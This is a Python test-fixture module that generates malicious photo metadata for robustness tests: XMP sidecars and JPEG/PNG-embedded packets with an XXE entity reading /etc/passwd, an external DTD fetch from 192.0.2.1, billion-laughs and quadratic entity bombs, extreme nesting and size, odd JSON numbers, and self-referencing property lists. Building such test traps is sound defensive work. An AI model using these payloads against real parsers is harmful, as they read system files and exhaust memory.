"""Metadata as text: XML with entities, JSON that nests; beside photos and in them."""

from __future__ import annotations

import json
import struct
import zlib
from functools import partial

from support.stills import jpeg, scene
from support.traps.stills import chunk, png
from support.traps.trap import Trap

_MB = 1 << 20
_HEAD = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><rdf:Description>'
)
_TAIL = "</rdf:Description></rdf:RDF></x:xmpmeta>"
_TITLE = "<dc:title><rdf:Alt><rdf:li>{}</rdf:li></rdf:Alt></dc:title>"
_TIME = '"photoTakenTime": {"timestamp": "1577934245"}'


def _xmp(body: str, before: str = "") -> bytes:
    return (before + _HEAD + body + _TAIL).encode()


def _outside() -> bytes:
    before = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return _xmp(_TITLE.format("&x;"), before)


def _outside_parameter() -> bytes:
    before = '<!DOCTYPE x [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'
    return _xmp(_TITLE.format("x"), before)


def _laughs() -> bytes:
    """10⁹ laughs in 1 kB."""
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10)
    )
    return _xmp(_TITLE.format("&a9;"), f"<!DOCTYPE x [{entities}]>")


def _quadratic() -> bytes:
    """One long entity, many times: no depth to be seen."""
    before = f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>'
    return _xmp(_TITLE.format("&a;" * 20_000), before)


def _large(size: int) -> bytes:
    """Zeros in it, so that a disk need not hold them."""
    return _xmp(_TITLE.format("\0" * size))


def _deep(depth: int) -> bytes:
    return _xmp("<dc:title>" * depth + "x" + "</dc:title>" * depth)


def _words(count: int) -> bytes:
    words = "".join(f"<rdf:li>{number}</rdf:li>" for number in range(count))
    return _xmp(f"<dc:subject><rdf:Bag>{words}</rdf:Bag></dc:subject>")


def _attributes(count: int) -> bytes:
    names = " ".join(f'a{number}="x"' for number in range(count))
    return _xmp(f"<dc:title {names}/>")


def _in_jpeg(packet: bytes) -> bytes:
    part = b"http://ns.adobe.com/xap/1.0/\0" + packet
    sound = jpeg(scene(400, 300))
    return sound[:2] + b"\xff\xe1" + struct.pack(">H", len(part) + 2) + part + sound[2:]


def _in_png(packet: bytes) -> bytes:
    data = b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(packet)
    return png((8, 8), chunk(b"iTXt", data))


def _takeout(title: str, more: str) -> bytes:
    return f'{{"title": "{title}", {_TIME}, {more}}}'.encode()


def _odd_numbers() -> bytes:
    place = '"geoData": {"latitude": NaN, "longitude": Infinity, "altitude": -Infinity}'
    return _takeout("nan.jpg", place)


def _long_numbers() -> bytes:
    digits = "9" * 400
    time = f'"photoTakenTime": {{"timestamp": {digits}}}'
    place = f'"geoData": {{"latitude": 1e400, "longitude": -1e400, "altitude": {digits}}}'
    return f'{{"title": "numbers.jpg", {time}, {place}}}'.encode()


def _long_text() -> bytes:
    time = f'"photoTakenTime": {{"timestamp": "{"9" * 900_000}"}}'
    return f'{{"title": "digits.jpg", {time}}}'.encode()


def _people(count: int) -> bytes:
    return _takeout("people.jpg", '"people": ' + json.dumps([{"name": "x"}] * count))


def _recipe_xml() -> bytes:
    head = '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "'
    return (
        head + "&a;" * 1_000 + '">]><plist><dict><key>' + "&b;" * 1_000 + "</key></dict>"
    ).encode()


def _recipe_binary() -> bytes:
    """A binary property list whose only array holds itself."""
    body = b"bplist00" + b"\xaf\x10\x0a" + bytes(10)
    trailer = bytes(6) + struct.pack(">BBQQQ", 1, 1, 1, 0, len(body))
    return body + b"\x08" + trailer


def _sidecar(name: str, file: str, make: object, what: str) -> Trap:
    return Trap(name, file, make, what, "sidecar")  # type: ignore[arg-type]


SIDECARS: tuple[Trap, ...] = (
    _sidecar("xmp entity outside", "xxe.jpg.xmp", _outside, "an entity that is /etc/passwd"),
    _sidecar("xmp definition outside", "dtd.jpg.xmp", _outside_parameter, "a definition far away"),
    _sidecar("xmp laughs", "laughs.jpg.xmp", _laughs, "10⁹ laughs in 1 kB"),
    _sidecar("xmp quadratic", "quadratic.jpg.xmp", _quadratic, "2 GB by one entity"),
    _sidecar("xmp of 64 MB", "large.jpg.xmp", partial(_large, 64 * _MB), "a title of 64 MB"),
    _sidecar("xmp deep", "deep.jpg.xmp", partial(_deep, 40_000), "40,000 elements deep"),
    _sidecar("xmp words", "words.jpg.xmp", partial(_words, 40_000), "40,000 keywords"),
    _sidecar(
        "xmp attributes",
        "attributes.jpg.xmp",
        partial(_attributes, 60_000),
        "60,000 of one element",
    ),
    _sidecar(
        "xmp broken UTF-16",
        "utf16.jpg.xmp",
        lambda: b"\xff\xfe<\0" + b"\0\xd8" * 9_999,
        "halves of characters",
    ),
    Trap(
        "xmp laughs in a jpeg",
        "laughing.jpg",
        lambda: _in_jpeg(_laughs()),
        "the same in the file",
        "shown",
    ),
    Trap("xmp entity in a jpeg", "inside.jpg", lambda: _in_jpeg(_outside()), "the same", "shown"),
    Trap(
        "xmp deep in a png", "deep.png", lambda: _in_png(_deep(400_000)), "9 MB in 30 kB", "shown"
    ),
    _sidecar(
        "takeout deep",
        "deeply.jpg.json",
        lambda: _takeout("deeply.jpg", '"people": ' + "[" * 400_000),
        "400,000 lists deep",
    ),
    _sidecar(
        "takeout of 50 MB",
        "mb50.jpg.json",
        lambda: _takeout("mb50.jpg", '"description": "' + "\0" * (50 * _MB) + '"'),
        "a description of 50 MB",
    ),
    _sidecar("takeout nan", "nan.jpg.json", _odd_numbers, "NaN and infinities"),
    _sidecar("takeout 10⁴⁰⁰", "numbers.jpg.json", _long_numbers, "numbers beyond all ranges"),
    _sidecar(
        "takeout digits", "digits.jpg.json", _long_text, "a time of 900,000 digits: quadratic"
    ),
    _sidecar("takeout people", "people.jpg.json", partial(_people, 60_000), "60,000 people"),
    _sidecar("recipe entities", "recipe.aae", _recipe_xml, "10 MB by entities, in a property list"),
    _sidecar("recipe of itself", "itself.aae", _recipe_binary, "an array that holds itself"),
)
